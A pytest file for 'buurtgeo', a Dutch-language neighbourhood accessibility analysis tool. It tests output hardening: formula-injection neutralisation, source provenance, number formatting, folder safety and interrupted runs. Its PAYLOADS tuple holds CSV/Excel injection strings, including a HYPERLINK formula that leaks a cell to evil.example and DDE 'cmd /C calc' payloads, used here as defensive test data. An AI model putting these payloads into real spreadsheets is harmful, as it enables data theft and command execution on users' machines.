"""Outputs a planner can trust (issue 17): safe to open in Excel, sources named, readable
tables, a folder that is never written over an input, interrupted runs marked.

Each test is named after the defect it closes.
"""

from __future__ import annotations

import filecmp
import hashlib
import io
import warnings
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest

import buurtgeo as bg
from buurtgeo.cli import EXIT_USAGE, main
from buurtgeo.errors import ConfigError
from buurtgeo.sample import make_sample

#: What a spreadsheet reads as a formula (OWASP's list, and a line feed).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=cmd|' /C calc'!A0",  # DDE
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 2 345 67 89",
    "-2+3+cmd|' /C calc'!A0",
)


@pytest.fixture(scope="module")
def sample(tmp_path_factory):
    return make_sample(tmp_path_factory.mktemp("sample"))


def _config(sample: dict[str, Path], out: Path, **outputs) -> dict:
    return {
        "inputs": {
            "sectors": str(sample["sectors"]),
            "population": str(sample["population"]),
            "age_bands": str(sample["age_bands"]),
            "areas": str(sample["areas"]),
            "services": [{"path": str(sample["childcare"])}, {"path": str(sample["services"])}],
        },
        "analysis": {"origins": "point"},
        "outputs": {"dir": str(out), **outputs},
    }


def _read_source(path: Path) -> tuple[pd.DataFrame, str]:
    """A sample CSV as published (cp1252 or UTF-8 with BOM), every value as text."""
    from buurtgeo.io._tabular import detect_encoding

    encoding = detect_encoding(path.read_bytes())
    return pd.read_csv(path, sep=";", dtype=str, encoding=encoding), encoding


def _run(config: dict, **kwargs):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return bg.run_config(config, quiet=True, **kwargs)


# --------------------------------------------------------------------------------------
# Safe to open: no cell built from input text is a formula
# --------------------------------------------------------------------------------------


def _hostile_inputs(sample: dict[str, Path], folder: Path) -> dict[str, Path]:
    """The sample with formula payloads in sector, municipality, area and service names, in
    a column name and in the values of a row that is set aside."""
    folder.mkdir(parents=True, exist_ok=True)
    sectors = gpd.read_file(sample["sectors"])
    sectors.loc[0, "tx_sector_descr_nl"] = PAYLOADS[0]
    sectors.loc[1, "tx_sector_descr_nl"] = "\t" + PAYLOADS[1]  # a leading tab is stripped
    first = sectors["cd_munty_refnis"] == sectors["cd_munty_refnis"].iloc[0]
    sectors.loc[first, "tx_munty_descr_nl"] = PAYLOADS[2]
    sectors.to_file(folder / "sectoren.gpkg", layer="sectoren")
    areas, _ = _read_source(sample["areas"])
    areas.loc[areas["wijknr"] == areas["wijknr"].iloc[0], "wijknaam"] = PAYLOADS[3]
    areas.to_csv(folder / "wijken.csv", sep=";", index=False)
    services, _ = _read_source(sample["childcare"])
    name = "Naam opvanglocatie"
    for i, payload in enumerate(PAYLOADS):
        services.loc[i, name] = payload
    services.loc[5, name] = PAYLOADS[4]
    services.loc[5, "Vergunde plaatsen"] = "=1+1"  # not a number: set aside, values published
    services.insert(0, "=SUM(A1:A9)", "@A1")  # a column named as a formula, first of the row
    services.to_csv(folder / "opvang.csv", sep=";", index=False, encoding="utf-8-sig")
    return {
        "sectors": folder / "sectoren.gpkg",
        "areas": folder / "wijken.csv",
        "childcare": folder / "opvang.csv",
    }


@pytest.fixture(scope="module")
def hostile(sample, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    files = _hostile_inputs(sample, folder / "in")
    config = _config({**sample, **files}, folder / "out")
    analysis = _run(config)
    return analysis, folder / "out"


def test_formula_payloads_in_names_are_neutralised_in_every_csv(hostile):
    """The defect: an area or service name beginning with '=' reached every CSV raw."""
    analysis, out = hostile
    seen = set()
    for path in sorted(out.glob("*.csv")):
        text = path.read_text(encoding="utf-8-sig")
        table = pd.read_csv(io.StringIO(text), sep=";", dtype=str, keep_default_na=False)
        cells = [str(c) for c in table.columns] + [v for col in table for v in table[col]]
        for cell in cells:
            assert not cell.startswith(FORMULA_START), (path.name, cell)
            assert not cell.lstrip(" \t\r\n").startswith(FORMULA_START), (path.name, cell)
            for payload in PAYLOADS:
                if payload in cell:
                    seen.add(payload)
                    assert cell.startswith("'"), (path.name, cell)
    # every payload was published somewhere (so the test tested something), neutralised
    assert seen == set(PAYLOADS)
    # the set-aside row begins with the formula-named column and its formula-like value
    aside = pd.read_csv(out / "set_aside.csv", sep=";", dtype=str, encoding="utf-8-sig")
    assert aside["values"].str.startswith("'=SUM(A1:A9)=@A1 | ").any()


def test_formula_payloads_are_never_live_formulas_in_the_xlsx(hostile):
    """The defect: '=HYPERLINK(...)' names were written as live formulas in indicators.xlsx."""
    import openpyxl

    analysis, out = hostile
    book = openpyxl.load_workbook(out / "indicators.xlsx")
    n_text = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    n_text += 1
                    assert not cell.value.lstrip(" \t\r\n").startswith(FORMULA_START), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
    assert n_text > 100
    names = pd.read_excel(out / "indicators.xlsx", sheet_name="buurten", dtype=str)
    assert ("'" + PAYLOADS[3]) in set(names["area_name"])


def test_neutralise_keeps_numbers_numbers_and_is_idempotent():
    from buurtgeo.outputs import _csv_bytes, _for_tables, neutralise

    assert neutralise("=1+1") == "'=1+1" and neutralise("'=1+1") == "'=1+1"
    assert neutralise("\t=1+1") == "'\t=1+1" and neutralise("\r@x") == "'\r@x"
    assert neutralise("  =1") == "'  =1" and neutralise("\uff1d1+1") == "'\uff1d1+1"
    assert neutralise("Kribbe = fijn") == "Kribbe = fijn" and neutralise("") == ""
    frame = pd.DataFrame(
        {"mean_dist_m": [-12.0, 250.4], "name": ["-5", "ok"]},
        index=pd.Index(["=a", "b"], name="area_id"),
    )
    text = _csv_bytes(_for_tables(frame, "nl")).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1] == "'=a;-12;'-5" and lines[2] == "b;250;ok"  # numbers stay numbers


# --------------------------------------------------------------------------------------
# Sources named
# --------------------------------------------------------------------------------------


def test_every_run_writes_bronnen_naming_each_input_its_hash_rows_versions_and_settings(
    sample, tmp_path
):
    """The defect: no output named its input files, their versions or the settings."""
    config = _config(sample, tmp_path / "out")
    config["analysis"]["decay"] = "linear"
    analysis = _run(config)
    out = tmp_path / "out"
    table = pd.read_csv(out / "bronnen.csv", sep=";", dtype=str, encoding="utf-8-sig")
    inputs = table[table["part"] == "input"].set_index("item")
    expected = {
        "inputs.sectors": sample["sectors"],
        "inputs.population": sample["population"],
        "inputs.age_bands": sample["age_bands"],
        "inputs.services[1]": sample["childcare"],
        "inputs.services[2]": sample["services"],
        "inputs.areas": sample["areas"],
    }
    assert set(inputs.index) == set(expected)
    for item, path in expected.items():
        row = inputs.loc[item]
        assert row["value"] == str(path)
        assert int(row["size_bytes"]) == path.stat().st_size
        assert row["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
        read, used, aside = (int(row[c]) for c in ("rows_read", "rows_used", "rows_set_aside"))
        assert read == used + aside + int(row["rows_other_municipalities"]), item
    assert inputs.loc["inputs.population", "vintage"] == "2023-01-01"
    assert inputs.loc["inputs.services[1]", "layout"].startswith("opgroeien_kinderopvang")
    by_stage = analysis.set_aside.groupby("source").size()
    assert int(inputs.loc["inputs.services[1]", "rows_set_aside"]) == int(
        by_stage.get(str(sample["childcare"]), 0)
    )
    software = table[table["part"] == "software"].set_index("item")["value"]
    assert software["buurtgeo"] == bg.__version__ and "pandas" in software
    settings = table[table["part"] == "setting"].set_index("item")["value"]
    assert settings["analysis.decay"] == "linear" and settings["analysis.origins"] == "point"
    assert settings["outputs.language"] == "nl" and "inputs.services" in settings
    # the same table in the workbook and the GeoPackage
    sheet = pd.read_excel(out / "indicators.xlsx", sheet_name="bronnen", dtype=str)
    assert sheet["sha256"].dropna().tolist() == inputs["sha256"].tolist()
    import pyogrio

    stored = pyogrio.read_dataframe(out / "indicators.gpkg", layer="bronnen")
    assert stored["sha256"].dropna().tolist() == inputs["sha256"].tolist()
    # and a footer in the map and the fact sheets
    short = inputs.loc["inputs.population", "sha256"][:12]
    assert short in (out / "map.html").read_text(encoding="utf-8")
    page = next(p for p in (out / "buurtfiches").glob("*.html") if p.name != "index.html")
    footer = page.read_text(encoding="utf-8").split("<footer>")[1]
    assert short in footer and "OPEN DATA_SECTOREN_2023.xlsx" in footer
    assert f"buurtgeo {bg.__version__}" in footer


def test_reruns_stay_byte_identical_with_the_sources(sample, tmp_path):
    config = _config(sample, tmp_path / "a", xlsx=True)
    _run(config)
    config["outputs"]["dir"] = str(tmp_path / "b")
    _run(config)
    names = [p.relative_to(tmp_path / "a") for p in (tmp_path / "a").rglob("*") if p.is_file()]
    assert Path("bronnen.csv") in names and Path("indicators.xlsx") in names
    for name in names:
        assert filecmp.cmp(tmp_path / "a" / name, tmp_path / "b" / name, shallow=False), name


# --------------------------------------------------------------------------------------
# Readable tables
# --------------------------------------------------------------------------------------


def test_tables_write_counts_as_integers_and_rates_with_the_registry_decimals(sample, tmp_path):
    """The defect: counts written as 433,0 and rates with 4 decimals whatever they are."""
    analysis = _run(_config(sample, tmp_path, map=False, fact_sheets=False))
    raw = pd.read_csv(tmp_path / "indicators_areas.csv", sep=";", dtype=str, encoding="utf-8-sig")
    kind = "childcare_baby"
    for column in ("population", "children_0_2", f"target_pop__{kind}", f"need__{kind}"):
        assert raw[column].str.fullmatch(r"\d+").all(), column  # persons: whole numbers
    for column in (f"places__{kind}", f"missing_places__{kind}", "n_sectors"):
        assert raw[column].str.fullmatch(r"\d+").all(), column  # places: whole numbers
    shares = raw[f"share_covered__{kind}"].str.replace(",", ".").astype(float)
    kept = analysis.area_indicators[f"share_covered__{kind}"]
    np.testing.assert_allclose(shares, kept.round(2).to_numpy())  # a whole % = 2 decimals
    per_100 = raw[f"places_per_100_2sfca__{kind}"].str.replace(",", ".").astype(float)
    np.testing.assert_allclose(
        per_100, analysis.area_indicators[f"places_per_100_2sfca__{kind}"].round(1).to_numpy()
    )
    book = pd.read_excel(tmp_path / "indicators.xlsx", sheet_name="buurten")
    assert pd.api.types.is_integer_dtype(book["population"])


def test_headers_labels_writes_dutch_column_headers(sample, tmp_path):
    config = _config(sample, tmp_path, headers="labels", map=False, fact_sheets=False)
    _run(config)
    raw = pd.read_csv(tmp_path / "indicators_areas.csv", sep=";", dtype=str, encoding="utf-8-sig")
    assert raw.columns[0] == "Buurt (area_id)" and "Buurt (area_name)" in raw.columns
    assert "Inwoners" in raw.columns
    assert "Aandeel kinderen binnen bereik: Kinderopvang baby's en peuters" in raw.columns
    assert len(set(raw.columns)) == len(raw.columns)
    with pytest.raises(ConfigError, match="outputs.headers must be 'codes' or 'labels'"):
        bg.run_config(_config(sample, tmp_path, headers="dutch"), write=False, quiet=True)


# --------------------------------------------------------------------------------------
# The output folder
# --------------------------------------------------------------------------------------


def test_outputs_dir_dot_never_overwrites_an_input_file(sample, tmp_path):
    """The defect: outputs.dir = '.' overwrote input files that shared an output's name."""
    folder = tmp_path / "work"
    folder.mkdir()
    services = folder / "bronnen.csv"  # an input that happens to bear an output's name
    services.write_bytes(sample["services"].read_bytes())
    before = services.read_bytes()
    config = _config(sample, folder)
    config["inputs"]["services"][1]["path"] = str(services)
    with pytest.raises(ConfigError, match="would replace the input file"):
        bg.run_config(config, quiet=True)
    assert services.read_bytes() == before
    toml = folder / "analysis.toml"
    toml.write_text(
        f'[inputs]\nsectors = "{sample["sectors"]}"\npopulation = "{sample["population"]}"\n'
        f'[[inputs.services]]\npath = "bronnen.csv"\n[outputs]\ndir = "."\n',
        encoding="utf-8",
    )
    assert main(["run", str(toml), "--check", "-q"]) == EXIT_USAGE
    assert main(["run", str(toml), "-q"]) == EXIT_USAGE
    assert services.read_bytes() == before and not (folder / "indicators.csv").exists()


@pytest.mark.parametrize("where", ["/", "file"])
def test_outputs_dir_root_or_a_file_is_refused_before_the_analysis(sample, tmp_path, where):
    """The defects: outputs.dir = '/' was accepted; a file failed only after the analysis."""
    target = tmp_path / "a_file.txt"
    target.write_text("x")
    out = "/" if where == "/" else str(target)
    config = _config(sample, tmp_path)
    config["outputs"]["dir"] = out
    from buurtgeo.config import parse_config

    with pytest.raises(ConfigError, match="outputs.dir"):
        parse_config(config)
    toml = tmp_path / "a.toml"
    toml.write_text(
        f'[inputs]\nsectors = "{sample["sectors"]}"\npopulation = "{sample["population"]}"\n'
        f'[[inputs.services]]\npath = "{sample["childcare"]}"\n[outputs]\ndir = "{out}"\n',
        encoding="utf-8",
    )
    assert main(["run", str(toml), "--check", "-q"]) == EXIT_USAGE
    analysis = _run(_config(sample, tmp_path / "ok"), write=False)
    with pytest.raises(ConfigError, match="outputs.dir"):
        analysis.write(out_dir=out)


def test_an_interrupted_run_marks_its_folder_incomplete_and_leaves_no_temporary_file(
    sample, tmp_path, monkeypatch
):
    """The defects: a run killed while writing left a hidden half '.tmp.gpkg', and new
    tables beside the old map and fact sheets with nothing saying so."""
    import buurtgeo.outputs as outputs

    out = tmp_path / "out"
    analysis = _run(_config(sample, out))  # a complete first run
    assert not (out / "ONVOLLEDIG.txt").exists()

    def killed(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(outputs, "_write_gpkg", killed)
    with pytest.raises(KeyboardInterrupt):
        analysis.write(out_dir=out)
    assert (out / "ONVOLLEDIG.txt").is_file()
    assert "onderbroken" in (out / "ONVOLLEDIG.txt").read_text(encoding="utf-8")
    assert not [p for p in out.rglob("*") if ".tmp" in p.name]
    # a process killed outright leaves its temporary file: the next run removes it
    stale = out / ".indicators.ab12cd_9.tmp.gpkg"
    stale.write_bytes(b"half a file")
    (out / "buurtfiches" / ".index.zz99yy88.tmp.html").write_text("half")
    monkeypatch.undo()
    analysis.write(out_dir=out)
    assert not stale.exists() and not [p for p in out.rglob("*") if ".tmp" in p.name]
    assert not (out / "ONVOLLEDIG.txt").exists()


@pytest.mark.slow
def test_sigterm_stops_a_run_like_ctrl_c(sample, tmp_path):
    """A `kill` during writing: exit 130, the folder marked, no temporary file left."""
    import subprocess
    import sys
    import time

    toml = tmp_path / "a.toml"
    toml.write_text(
        f'[inputs]\nsectors = "{sample["sectors"]}"\npopulation = "{sample["population"]}"\n'
        f'age_bands = "{sample["age_bands"]}"\nnetwork = "{sample["network"]}"\n'
        f'[[inputs.services]]\npath = "{sample["childcare"]}"\n'
        f'[outputs]\ndir = "{tmp_path / "out"}"\n',
        encoding="utf-8",
    )
    proc = subprocess.Popen(
        [sys.executable, "-m", "buurtgeo", "run", str(toml), "-q"],
        stderr=subprocess.PIPE,
        env={**__import__("os").environ, "PYTHONPATH": str(Path(bg.__file__).parents[1])},
    )
    deadline = time.time() + 120
    while not (tmp_path / "out" / "ONVOLLEDIG.txt").exists() and time.time() < deadline:
        if proc.poll() is not None:
            break
        time.sleep(0.02)
    proc.terminate()
    code = proc.wait(timeout=60)
    if code == 0:  # pragma: no cover - finished before the signal: nothing to check
        pytest.skip("the run ended before it could be stopped")
    assert code == 130, proc.stderr.read() if proc.stderr else code
    assert (tmp_path / "out" / "ONVOLLEDIG.txt").exists()
    assert not [p for p in (tmp_path / "out").rglob("*") if ".tmp" in p.name]


# --------------------------------------------------------------------------------------
# Fact sheet file names
# --------------------------------------------------------------------------------------


def test_an_area_named_index_keeps_its_fact_sheet_and_ids_differing_in_case_do_not_collide(
    sample, tmp_path
):
    """The defect: an area whose id is 'index' had its fact sheet overwritten by
    index.html; 'INDEX' would collide on a case-insensitive disk."""
    areas, _ = _read_source(sample["areas"])
    ids = list(dict.fromkeys(areas["wijknr"]))
    rename = {ids[0]: "index", ids[1]: "INDEX", ids[2]: "Wijk", ids[3]: "wijk", ids[4]: "NUL"}
    areas["wijknr"] = areas["wijknr"].replace(rename)
    path = tmp_path / "wijken.csv"
    areas.to_csv(path, sep=";", index=False)
    config = _config(sample, tmp_path / "out", map=False)
    config["inputs"]["areas"] = str(path)
    analysis = _run(config)
    folder = tmp_path / "out" / "buurtfiches"
    names = sorted(p.name for p in folder.glob("*.html"))
    assert len(names) == len(analysis.area_indicators) + 1
    assert len({n.lower() for n in names}) == len(names)
    assert "index.html" in names and "nul.html" not in {n.lower() for n in names}
    index = (folder / "index.html").read_text(encoding="utf-8")
    assert "<h1>Buurtfiches</h1>" in index
    for area_id in rename.values():
        link = index.split(f"<td>{area_id}</td>")[0].rsplit("href='", 1)[1].split("'")[0]
        page = (folder / link).read_text(encoding="utf-8")
        assert f"Buurt {area_id} ·" in page, area_id


# --------------------------------------------------------------------------------------
# The capacity that overflows and the summary's 411-character number
# --------------------------------------------------------------------------------------


def test_a_capacity_of_1e308_is_set_aside_not_summed_to_inf(sample, tmp_path):
    """The defect: 1e308 overflowed the sums into inf cells and a 411-character number."""
    services, _ = _read_source(sample["childcare"])
    services.loc[0, "Vergunde plaatsen"] = "1e308"
    services.loc[1, "Vergunde plaatsen"] = "1e308"
    path = tmp_path / "opvang.csv"
    services.to_csv(path, sep=";", index=False, encoding="utf-8-sig")
    config = _config(sample, tmp_path / "out", map=False, fact_sheets=False)
    config["inputs"]["services"] = [{"path": str(path)}]
    analysis = _run(config)
    reasons = analysis.set_aside["reason"].astype(str)
    assert reasons.str.startswith("capacity is implausibly large").sum() == 2
    numbers = analysis.area_indicators.select_dtypes("number")
    finite = numbers.drop(columns=[c for c in numbers if "dist" in c or "time" in c])
    assert np.isfinite(finite.to_numpy(dtype=float)[~np.isnan(finite.to_numpy(dtype=float))]).all()
    assert max(len(line) for line in analysis.summary().splitlines()) < 200
    assert bg.format_value("capacity", 1e308) == "1,0e+308"


# --------------------------------------------------------------------------------------
# The xlsx is a real workbook (the normaliser keeps it one)
# --------------------------------------------------------------------------------------


def test_the_workbook_has_the_four_sheets(hostile):
    _analysis, out = hostile
    with zipfile.ZipFile(out / "indicators.xlsx") as book:
        workbook = book.read("xl/workbook.xml").decode()
    for sheet in ("sectoren", "buurten", "legenda", "bronnen"):
        assert f'name="{sheet}"' in workbook
